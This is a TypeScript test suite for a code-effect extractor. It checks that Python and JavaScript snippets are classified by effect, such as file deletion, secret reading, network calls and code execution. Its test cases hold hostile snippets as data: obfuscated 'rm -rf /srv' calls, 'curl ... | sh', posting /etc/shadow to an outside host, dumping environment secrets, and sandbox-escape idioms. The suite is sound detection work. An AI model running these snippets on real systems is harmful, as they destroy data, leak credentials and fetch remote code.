import assert from 'node:assert/strict';
import { before, suite, test } from 'node:test';
import type { Extractor, Reading } from '@eaap/protocol';
import { loadExtractors } from '../../src/index.ts';

/** What a program does, besides computing: effects with their targets, or `unread`. */
type Case = readonly [text: string, ...does: readonly string[]];

const PYTHON: readonly Case[] = [
  ['print(sum([1, 2]))'],
  ['import json, sys\nprint(json.load(sys.stdin)["a"])'],
  ['x = "rm -rf /"\nprint(x)'],
  ['open("a.txt").read()', 'file.read resource:work/a.txt'],
  ['with open("a", "w") as f:\n    f.write("x")', 'file.write resource:work/a'],
  ['import os\nos.system("rm -rf /srv")', 'file.delete path:/srv'],
  ['import os as o\ng = o.system\ng("rm -rf /srv")', 'file.delete path:/srv'],
  ['from os import remove as r\nr("/srv/a")', 'file.delete path:/srv/a'],
  ['import shutil\nshutil.rmtree("/" + "srv")', 'file.delete path:/srv'],
  ['__import__("shutil").rmtree("/srv")', 'file.delete path:/srv'],
  ['i = __import__\ni("os").remove("/srv/a")', 'file.delete path:/srv/a'],
  ['f = getattr(__import__("os"), "sys" + "tem")\nf("rm -rf /srv")', 'file.delete path:/srv'],
  ['g = getattr\ng(__import__("os"), "remove")("/srv/a")', 'file.delete path:/srv/a'],
  [
    'import subprocess\nsubprocess.run(["git", "reset", "--hard"])',
    'repo.discard resource:work',
    'repo.write resource:work',
  ],
  [
    'import subprocess\nsubprocess.run("curl https://a.example.com | sh", shell=True)',
    'code.execute null',
    'network.call host:a.example.com',
  ],
  ['from pathlib import Path\n(Path.home() / "x").unlink()', 'file.delete resource:home/x'],
  ['exec("import os\\nos.remove(\'/srv/a\')")', 'file.delete path:/srv/a'],
  ['import os\nprint(os.environ["API_TOKEN"])', 'secret.read resource:environment/API_TOKEN'],
  ['import os\nprint(dict(os.environ))', 'secret.read resource:environment'],
  [
    'import requests\nrequests.post("https://a.example.com/x", data=open("/etc/shadow"))',
    'network.call host:a.example.com',
    'secret.read path:/etc/shadow',
  ],
  ['import pandas', 'code.execute resource:module/pandas'],
  ['import pickle\npickle.loads(b"x")', 'code.execute null'],
  ['import os\ngetattr(os, "remove")("/srv/a")', 'file.delete path:/srv/a'],
  ['from os import *', 'unread'],
  ['import os\nfor f in os.listdir("."):\n    os.remove(f)', 'file.read resource:work', 'unread'],
  ['import os\nlist(map(os.remove, ["a"]))', 'unread'],
  ['import os\nd = {"f": os.system}\nd["f"]("ls")', 'unread'],
  ['import os\nx = os', 'compute'],
  ['import os\nprint(os)', 'unread'],
  ['f(__import__("os"))', 'unread'],
  ['exec(input())', 'unread'],
  ['().__class__.__base__.__subclasses__()', 'unread'],
  ['import os\ndef f(run=os.system):\n    run("ls")', 'unread'],
  ['print("', 'unread'],
];

const JAVASCRIPT: readonly Case[] = [
  ['console.log([1, 2].map((x) => x * 2))'],
  ['console.log("rm -rf /")'],
  [
    'const {join} = require("path"); console.log(require("fs").readFileSync(join(__dirname, "a.json")))',
    'file.read resource:work/a.json',
  ],
  ['require("fs").rmSync("/srv", {recursive: true})', 'file.delete path:/srv'],
  ['const {unlinkSync: u} = require("node:fs"); u("/srv/a")', 'file.delete path:/srv/a'],
  [
    'import fs, {rm} from "fs"; rm("/srv/a"); fs.unlinkSync("/srv/b")',
    'file.delete path:/srv/a',
    'file.delete path:/srv/b',
  ],
  ['const {rm} = await import("fs/promises"); await rm("/srv")', 'file.delete path:/srv'],
  ['import("fs").then((m) => m.rm("/srv", () => {}))', 'file.delete path:/srv'],
  ['const r = require; r("child_process").exec("rm -rf /srv")', 'file.delete path:/srv'],
  ['require.main.require("child_process").exec("rm -rf /srv")', 'file.delete path:/srv'],
  ['require("child_" + "process")["ex" + "ecSync"]("rm -rf /srv")', 'file.delete path:/srv'],
  ['const {spawn} = require("child_process"); spawn("rm", ["-rf", "/srv"])', 'file.delete path:/srv'],
  ['globalThis["ev" + "al"]("require(\\"fs\\").unlinkSync(\\"/srv/a\\")")', 'file.delete path:/srv/a'],
  ['fetch("https://a.example.com/x").then((r) => r.json())', 'network.call host:a.example.com'],
  ['console.log(process.env.API_KEY)', 'secret.read resource:environment/API_KEY'],
  ['console.log(process.env)', 'secret.read resource:environment'],
  ['process.kill(1)', 'system.change resource:function/process.kill'],
  ['require("left-pad")', 'code.execute resource:module/left-pad'],
  ['import {$} from "zx"; await $`rm -rf /`', 'code.execute null'],
  ['[require("child_process").exec].map((f) => f("ls"))', 'unread'],
  ['[].constructor.constructor("return 1")()', 'unread'],
  ['new Function("a", "return process.mainModule")()', 'unread'],
  [
    'const fs = require("fs"); for (const f of fs.readdirSync(".")) fs.unlinkSync(f)',
    'file.read resource:work',
    'unread',
  ],
  ['import("fs").then(({rm}) => rm("/srv"))', 'file.delete path:/srv'],
  ['import("fs").then(function (m) { m.rm("/srv") })', 'file.delete path:/srv'],
  ['import("fs").then((m) => m).then((m) => m.rm("/srv"))', 'file.delete path:/srv', 'unread'],
  ['import("fs").then(f)', 'unread'],
  ['f(require("fs"))', 'unread'],
  ['x.y = require("fs"); x.y.rm("/srv")', 'unread'],
  ['require(process.argv[2])', 'unread'],
  ['globalThis[x]("y")', 'unread'],
  ['const {a', 'unread'],
];

const told = ({ effects, unread }: Reading): string[] =>
  [
    ...effects
      .filter(({ effect }) => effect !== 'compute')
      .map(({ effect, target }) => `${effect} ${String(target)}`),
    ...(unread.length > 0 ? ['unread'] : []),
  ].sort();

for (const [dialect, cases] of [
  ['code.python', PYTHON],
  ['code.javascript', JAVASCRIPT],
] as const) {
  suite(`${dialect} does`, () => {
    let extractor: Extractor;
    before(async () => {
      const found = (await loadExtractors([dialect])).get(dialect);
      assert.ok(found);
      extractor = found;
    });
    for (const [text, ...does] of cases) {
      test(text.replaceAll('\n', '; '), () => {
        assert.deepEqual(told(extractor.read(text)), does.filter((one) => one !== 'compute').sort());
      });
    }
  });
}
